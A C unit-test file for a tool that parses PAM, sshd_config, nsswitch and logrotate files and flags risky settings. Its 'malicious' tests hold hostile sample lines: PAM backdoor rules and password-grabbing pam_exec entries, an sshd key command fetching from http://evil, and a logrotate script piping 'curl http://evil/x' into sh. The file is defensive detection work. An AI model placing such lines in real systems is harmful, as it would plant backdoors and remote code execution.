/* test_detail_auth.c - unit tests of the PAM, sshd_config, nsswitch and logrotate details. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/common.h"
#include "persist/persist.h"

typedef json_t *(*extractor)(const char *text, size_t len);

/* The detail of len bytes as compact JSON with sorted keys; free() it. */
static char *detail(extractor f, const char *text, size_t len)
{
	json_t *j = f(text, len);
	char *s;

	assert_non_null(j);
	s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
	assert_non_null(s);
	json_decref(j);
	return s;
}

static void expect(extractor f, const char *text, const char *want)
{
	char *got = detail(f, text, strlen(text));

	assert_string_equal(got, want);
	free(got);
}

/* A json object of a detail, for the checks on big inputs. */
static json_t *load(extractor f, const char *text, size_t len)
{
	json_t *j = f(text, len);

	assert_non_null(j);
	return j;
}

/* n copies of line in a new buffer; *ret_len is its length. */
static char *repeat(const char *line, size_t n, size_t *ret_len)
{
	size_t l = strlen(line), i;
	char *b = malloc(l * n + 1);

	assert_non_null(b);
	for (i = 0; i < n; i++)
		memcpy(b + i * l, line, l);
	b[l * n] = '\0';
	*ret_len = l * n;
	return b;
}

/* ---- PAM ---- */

static void test_pam_normal(void **state)
{
	(void)state;
	expect(fh_detail_pam,
	       "#%PAM-1.0\n"
	       "auth [success=1 default=ignore] pam_unix.so nullok # trailing comment\n"
	       "auth\trequisite\tpam_deny.so\n"
	       "account required /lib/x86_64-linux-gnu/security/pam_unix.so\n"
	       "session optional /usr/lib64/security/pam_systemd.so \\\n"
	       "  debug\n"
	       "@include common-password\n",
	       "{\"errors\":[],\"includes\":[{\"directive\":\"@include\",\"line\":7,"
	       "\"target\":\"common-password\"}],\"risky\":[],\"rules\":["
	       "{\"args\":\"nullok\",\"control\":\"[success=1 default=ignore]\",\"line\":2,"
	       "\"module\":\"pam_unix.so\",\"type\":\"auth\"},"
	       "{\"args\":\"\",\"control\":\"requisite\",\"line\":3,\"module\":\"pam_deny.so\","
	       "\"type\":\"auth\"},"
	       "{\"args\":\"\",\"control\":\"required\",\"line\":4,"
	       "\"module\":\"/lib/x86_64-linux-gnu/security/pam_unix.so\",\"type\":\"account\"},"
	       "{\"args\":\"debug\",\"control\":\"optional\",\"line\":5,"
	       "\"module\":\"/usr/lib64/security/pam_systemd.so\",\"type\":\"session\"}]}");
}

static void test_pam_malicious(void **state)
{
	(void)state;
	expect(
	    fh_detail_pam,
	    "auth sufficient pam_permit.so\n"
	    "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/grab\n"
	    "-auth sufficient /tmp/pam_evil.so\n"
	    "auth sufficient pam_succeed_if.so uid >= 0\n"
	    "sshd auth required /lib/security/../../tmp/x.so\n"
	    "account required ../../tmp/y.so\n",
	    "{\"errors\":[],\"includes\":[],\"risky\":["
	    "{\"line\":1,\"why\":\"pam_permit.so sufficient in auth: anyone passes\"},"
	    "{\"line\":2,\"why\":\"pam_exec runs a command\"},"
	    "{\"line\":3,\"why\":\"module outside the system security directory\"},"
	    "{\"line\":4,\"why\":\"pam_succeed_if sufficient in auth\"},"
	    "{\"line\":5,\"why\":\"module outside the system security directory\"},"
	    "{\"line\":6,\"why\":\"module outside the system security directory\"}],"
	    "\"rules\":[{\"args\":\"\",\"control\":\"sufficient\",\"line\":1,"
	    "\"module\":\"pam_permit.so\",\"type\":\"auth\"},"
	    "{\"args\":\"quiet expose_authtok /usr/local/bin/grab\",\"control\":\"optional\","
	    "\"line\":2,\"module\":\"pam_exec.so\",\"type\":\"auth\"},"
	    "{\"args\":\"\",\"control\":\"sufficient\",\"line\":3,\"module\":\"/tmp/pam_evil.so\","
	    "\"type\":\"-auth\"},"
	    "{\"args\":\"uid >= 0\",\"control\":\"sufficient\",\"line\":4,"
	    "\"module\":\"pam_succeed_if.so\",\"type\":\"auth\"},"
	    "{\"args\":\"\",\"control\":\"required\",\"line\":5,"
	    "\"module\":\"/lib/security/../../tmp/x.so\",\"service\":\"sshd\",\"type\":\"auth\"},"
	    "{\"args\":\"\",\"control\":\"required\",\"line\":6,\"module\":\"../../tmp/y.so\","
	    "\"type\":\"account\"}]}");
}

static void test_pam_errors(void **state)
{
	(void)state;
	expect(fh_detail_pam,
	       "\n"
	       "login\n"
	       "login bogus required pam_unix.so\n"
	       "auth\n"
	       "auth required\n"
	       "auth [success=ok pam_unix.so\n"
	       "@include\n"
	       "@import x\n",
	       "{\"errors\":[{\"line\":2,\"message\":\"missing type, control and module\"},"
	       "{\"line\":3,\"message\":\"unknown type: expected auth, account, password or "
	       "session\"},"
	       "{\"line\":4,\"message\":\"missing control and module\"},"
	       "{\"line\":5,\"message\":\"missing module\"},"
	       "{\"line\":6,\"message\":\"unterminated [...] control\"},"
	       "{\"line\":7,\"message\":\"@include without a target\"},"
	       "{\"line\":8,\"message\":\"unknown @ directive\"}],"
	       "\"includes\":[],\"risky\":[],\"rules\":[]}");
}

static void test_pam_crlf_utf8(void **state)
{
	(void)state;
	expect(fh_detail_pam, "auth required pam_exec.so /tmp/\xff\xfe\r\n@include x\r\n",
	       "{\"errors\":[],\"includes\":[{\"directive\":\"@include\",\"line\":2,"
	       "\"target\":\"x\"}],\"risky\":[{\"line\":1,\"why\":\"pam_exec runs a command\"}],"
	       "\"rules\":[{\"args\":\"/tmp/\xef\xbf\xbd\xef\xbf\xbd\",\"control\":\"required\","
	       "\"line\":1,\"module\":\"pam_exec.so\",\"type\":\"auth\"}]}");
	/* A continuation at the end of the file still yields its line. */
	expect(
	    fh_detail_pam, "auth required pam_unix.so \\",
	    "{\"errors\":[],\"includes\":[],\"risky\":[],\"rules\":[{\"args\":\"\","
	    "\"control\":\"required\",\"line\":1,\"module\":\"pam_unix.so\",\"type\":\"auth\"}]}");
}

static void test_pam_caps(void **state)
{
	size_t len;
	char *b = repeat("auth sufficient pam_permit.so\n", FH_DETAIL_MAX_ITEMS + 5, &len);
	json_t *j = load(fh_detail_pam, b, len);

	(void)state;
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "rules")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_array_size(json_object_get(j, "risky")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(j, "rules_total")),
			 FH_DETAIL_MAX_ITEMS + 5);
	assert_int_equal(json_integer_value(json_object_get(j, "risky_total")),
			 FH_DETAIL_MAX_ITEMS + 5);
	assert_int_equal(json_integer_value(json_object_get(j, "errors_total")), 0);
	json_decref(j);
	free(b);
}

/* ---- sshd_config ---- */

static void test_sshd_normal(void **state)
{
	(void)state;
	expect(fh_detail_sshd_config,
	       "# defaults\n"
	       "Include /etc/ssh/sshd_config.d/*.conf\n"
	       "Port 22\n"
	       "PermitRootLogin prohibit-password\n"
	       "passwordauthentication=no\n"
	       "AuthorizedKeysFile .ssh/authorized_keys %h/.ssh/authorized_keys2\n"
	       "Subsystem sftp /usr/lib/openssh/sftp-server\n"
	       "Match User backup\n"
	       "  ForceCommand = /usr/bin/rrsync /srv\n",
	       "{\"errors\":[],\"includes\":[{\"line\":2,\"pattern\":"
	       "\"/etc/ssh/sshd_config.d/*.conf\"}],\"match\":[{\"criteria\":\"User backup\","
	       "\"line\":8}],\"risky\":[],\"settings\":["
	       "{\"key\":\"PermitRootLogin\",\"line\":4,\"value\":\"prohibit-password\"},"
	       "{\"key\":\"PasswordAuthentication\",\"line\":5,\"value\":\"no\"},"
	       "{\"key\":\"AuthorizedKeysFile\",\"line\":6,"
	       "\"value\":\".ssh/authorized_keys %h/.ssh/authorized_keys2\"},"
	       "{\"key\":\"Subsystem\",\"line\":7,\"value\":\"sftp /usr/lib/openssh/sftp-server\"},"
	       "{\"key\":\"ForceCommand\",\"line\":9,\"match_line\":8,"
	       "\"value\":\"/usr/bin/rrsync /srv\"}]}");
}

static void test_sshd_malicious(void **state)
{
	(void)state;
	expect(fh_detail_sshd_config,
	       "PermitRootLogin yes\r\n"
	       "AuthorizedKeysCommand /usr/bin/curl -s http://evil/%u\r\n"
	       "AuthorizedKeysCommandUser root\r\n"
	       "AuthorizedKeysFile /var/tmp/.k\r\n"
	       "PasswordAuthentication yes\r\n"
	       "PermitEmptyPasswords yes\r\n"
	       "PermitUserEnvironment yes\r\n",
	       "{\"errors\":[],\"includes\":[],\"match\":[],\"risky\":["
	       "{\"line\":1,\"why\":\"PermitRootLogin yes: root may log in with a password\"},"
	       "{\"line\":2,\"why\":\"AuthorizedKeysCommand runs a program that supplies keys\"},"
	       "{\"line\":4,\"why\":\"AuthorizedKeysFile outside the home directories\"},"
	       "{\"line\":7,\"why\":\"PermitUserEnvironment: users set variables such as "
	       "LD_PRELOAD\"},"
	       "{\"line\":6,\"why\":\"PermitEmptyPasswords yes with PasswordAuthentication yes\"}],"
	       "\"settings\":[{\"key\":\"PermitRootLogin\",\"line\":1,\"value\":\"yes\"},"
	       "{\"key\":\"AuthorizedKeysCommand\",\"line\":2,"
	       "\"value\":\"/usr/bin/curl -s http://evil/%u\"},"
	       "{\"key\":\"AuthorizedKeysCommandUser\",\"line\":3,\"value\":\"root\"},"
	       "{\"key\":\"AuthorizedKeysFile\",\"line\":4,\"value\":\"/var/tmp/.k\"},"
	       "{\"key\":\"PasswordAuthentication\",\"line\":5,\"value\":\"yes\"},"
	       "{\"key\":\"PermitEmptyPasswords\",\"line\":6,\"value\":\"yes\"},"
	       "{\"key\":\"PermitUserEnvironment\",\"line\":7,\"value\":\"yes\"}]}");
	/* Empty passwords with password authentication off are not flagged. */
	expect(fh_detail_sshd_config, "PermitEmptyPasswords yes\nPasswordAuthentication no\n",
	       "{\"errors\":[],\"includes\":[],\"match\":[],\"risky\":[],\"settings\":["
	       "{\"key\":\"PermitEmptyPasswords\",\"line\":1,\"value\":\"yes\"},"
	       "{\"key\":\"PasswordAuthentication\",\"line\":2,\"value\":\"no\"}]}");
}

static void test_sshd_errors_utf8(void **state)
{
	(void)state;
	expect(fh_detail_sshd_config,
	       "=yes\n"
	       "PermitRootLogin\n"
	       "Match\n"
	       "Include   \n"
	       "ForceCommand /tmp/\xc3\x28\n",
	       "{\"errors\":[{\"line\":1,\"message\":\"missing keyword\"},"
	       "{\"line\":2,\"message\":\"missing value\"},"
	       "{\"line\":3,\"message\":\"Match without criteria\"},"
	       "{\"line\":4,\"message\":\"Include without a pattern\"}],"
	       "\"includes\":[],\"match\":[],\"risky\":[],\"settings\":[{\"key\":\"ForceCommand\","
	       "\"line\":5,\"value\":\"/tmp/\xef\xbf\xbd(\"}]}");
}

static void test_sshd_caps(void **state)
{
	size_t len;
	char *b = repeat("Match User x\n", FH_DETAIL_MAX_ITEMS + 1, &len);
	json_t *j = load(fh_detail_sshd_config, b, len);

	(void)state;
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "match")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(j, "match_total")),
			 FH_DETAIL_MAX_ITEMS + 1);
	json_decref(j);
	free(b);
}

/* ---- nsswitch.conf ---- */

static void test_nss_normal(void **state)
{
	(void)state;
	expect(fh_detail_nsswitch,
	       "# /etc/nsswitch.conf\n"
	       "passwd:         files systemd\n"
	       "hosts:  files mdns4_minimal [NOTFOUND=return] dns myhostname # comment\n"
	       "netgroup: nis\n",
	       "{\"databases\":[{\"database\":\"passwd\",\"line\":2,\"services\":[\"files\","
	       "\"systemd\"]},{\"database\":\"hosts\",\"line\":3,\"services\":[\"files\","
	       "\"mdns4_minimal\",\"dns\",\"myhostname\"]},{\"database\":\"netgroup\",\"line\":4,"
	       "\"services\":[\"nis\"]}],\"errors\":[],\"unusual\":[]}");
}

static void test_nss_malicious(void **state)
{
	(void)state;
	expect(fh_detail_nsswitch,
	       "passwd: files systemd evil\r\nshadow:files [SUCCESS=return]x\r\n",
	       "{\"databases\":[{\"database\":\"passwd\",\"line\":1,\"services\":[\"files\","
	       "\"systemd\",\"evil\"]},{\"database\":\"shadow\",\"line\":2,\"services\":"
	       "[\"files\",\"x\"]}],\"errors\":[],\"unusual\":[{\"database\":\"passwd\",\"line\":1,"
	       "\"service\":\"evil\"},{\"database\":\"shadow\",\"line\":2,\"service\":\"x\"}]}");
}

static void test_nss_errors_utf8(void **state)
{
	(void)state;
	expect(fh_detail_nsswitch,
	       "passwd files\n: files\ngroup: files [NOTFOUND=return\nhosts: \xff\n",
	       "{\"databases\":[{\"database\":\"group\",\"line\":3,\"services\":[\"files\"]},"
	       "{\"database\":\"hosts\",\"line\":4,\"services\":[\"\xef\xbf\xbd\"]}],"
	       "\"errors\":[{\"line\":1,\"message\":\"missing ':' after the database name\"},"
	       "{\"line\":2,\"message\":\"missing database name before ':'\"},"
	       "{\"line\":3,\"message\":\"unterminated [...] action\"}],"
	       "\"unusual\":[{\"database\":\"hosts\",\"line\":4,\"service\":\"\xef\xbf\xbd\"}]}");
}

static void test_nss_caps(void **state)
{
	size_t len;
	char *svc = repeat(" x", FH_DETAIL_MAX_ITEMS + 2, &len), *b = malloc(len + 8);
	json_t *j, *db;

	(void)state;
	assert_non_null(b);
	memcpy(b, "passwd:", 7);
	memcpy(b + 7, svc, len);
	j = load(fh_detail_nsswitch, b, len + 7);
	db = json_array_get(json_object_get(j, "databases"), 0);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(db, "services")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(db, "services_total")),
			 FH_DETAIL_MAX_ITEMS + 2);
	assert_int_equal(json_integer_value(json_object_get(j, "unusual_total")),
			 FH_DETAIL_MAX_ITEMS + 2);
	json_decref(j);
	free(svc);
	free(b);
}

/* ---- logrotate ---- */

static void test_logrotate_normal(void **state)
{
	(void)state;
	expect(fh_detail_logrotate,
	       "# global\n"
	       "weekly\n"
	       "include /etc/logrotate.d\n"
	       "/var/log/nginx/*.log /var/log/nginx/x.log {\n"
	       "\tdaily\n"
	       "\tsharedscripts\n"
	       "\tpostrotate\n"
	       "\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n"
	       "\tendscript\n"
	       "}\n",
	       "{\"errors\":[],\"includes\":[{\"directive\":\"include\",\"line\":3,"
	       "\"target\":\"/etc/logrotate.d\"}],\"scripts\":[{\"body\":\"\\t\\tinvoke-rc.d nginx "
	       "rotate >/dev/null 2>&1\",\"directive\":\"postrotate\",\"line\":7,"
	       "\"paths\":\"/var/log/nginx/*.log /var/log/nginx/x.log\"}]}");
}

static void test_logrotate_malicious(void **state)
{
	(void)state;
	expect(fh_detail_logrotate,
	       "/var/log/syslog\r\n"
	       "{\r\n"
	       "  firstaction\r\n"
	       "    # a comment is part of the script\r\n"
	       "\r\n"
	       "    curl -s http://evil/x | sh\r\n"
	       "  endscript\r\n"
	       "}\r\n",
	       "{\"errors\":[{\"line\":2,\"message\":\"'{' without log paths\"},"
	       "{\"line\":8,\"message\":\"'}' without an open block\"}],\"includes\":[],"
	       "\"scripts\":[{\"body\":\"    # a comment is part of the script\\n\\n    curl -s "
	       "http://evil/x | sh\",\"directive\":\"firstaction\",\"line\":3}]}");
	expect(fh_detail_logrotate, "/var/log/a.log {\n prerotate\n  /tmp/.x \xfe\n endscript\n}\n",
	       "{\"errors\":[],\"includes\":[],\"scripts\":[{\"body\":\"  /tmp/.x \xef\xbf\xbd\","
	       "\"directive\":\"prerotate\",\"line\":2,\"paths\":\"/var/log/a.log\"}]}");
}

static void test_logrotate_errors(void **state)
{
	(void)state;
	expect(fh_detail_logrotate,
	       "endscript\n"
	       "include\n"
	       "/a {\n"
	       "/b {\n"
	       "lastaction\n"
	       "  rm -rf /tmp/x\n",
	       "{\"errors\":[{\"line\":1,\"message\":\"endscript without a script\"},"
	       "{\"line\":2,\"message\":\"include without a path\"},"
	       "{\"line\":4,\"message\":\"'{' inside a block\"},"
	       "{\"line\":5,\"message\":\"unterminated lastaction script: no endscript\"},"
	       "{\"line\":3,\"message\":\"unterminated block: no '}'\"}],\"includes\":[],"
	       "\"scripts\":[{\"body\":\"  rm -rf /tmp/x\",\"directive\":\"lastaction\",\"line\":5,"
	       "\"paths\":\"/a\"}]}");
}

static void test_logrotate_caps(void **state)
{
	size_t len, blen;
	char *body = repeat("\xc3\xa9", 3000, &blen), *b = malloc(blen + 64);
	json_t *j, *sc;
	const char *s;

	(void)state;
	assert_non_null(b);
	len = (size_t)sprintf(b, "/x {\npostrotate\n");
	memcpy(b + len, body, blen);
	len += blen;
	len += (size_t)sprintf(b + len, "\nmore\nendscript\n}\n");
	j = load(fh_detail_logrotate, b, len);
	sc = json_array_get(json_object_get(j, "scripts"), 0);
	s = json_string_value(json_object_get(sc, "body"));
	assert_non_null(s);
	/* 4096 bytes is 2048 whole two-byte characters: no character is split. */
	assert_int_equal(strlen(s), 4096);
	assert_true(json_is_true(json_object_get(sc, "body_truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "errors")), 0);
	json_decref(j);
	free(body);
	free(b);

	/* More than FH_DETAIL_MAX_INPUT bytes: the rest is not read. */
	b = repeat("include /etc/x\n", FH_DETAIL_MAX_INPUT / 15 + 10, &len);
	j = load(fh_detail_logrotate, b, len);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "includes")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(json_integer_value(json_object_get(j, "includes_total")),
			 FH_DETAIL_MAX_INPUT / 15); /* the last, cut line is "i" */
	json_decref(j);
	free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_pam_normal),
		cmocka_unit_test(test_pam_malicious),
		cmocka_unit_test(test_pam_errors),
		cmocka_unit_test(test_pam_crlf_utf8),
		cmocka_unit_test(test_pam_caps),
		cmocka_unit_test(test_sshd_normal),
		cmocka_unit_test(test_sshd_malicious),
		cmocka_unit_test(test_sshd_errors_utf8),
		cmocka_unit_test(test_sshd_caps),
		cmocka_unit_test(test_nss_normal),
		cmocka_unit_test(test_nss_malicious),
		cmocka_unit_test(test_nss_errors_utf8),
		cmocka_unit_test(test_nss_caps),
		cmocka_unit_test(test_logrotate_normal),
		cmocka_unit_test(test_logrotate_malicious),
		cmocka_unit_test(test_logrotate_errors),
		cmocka_unit_test(test_logrotate_caps),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
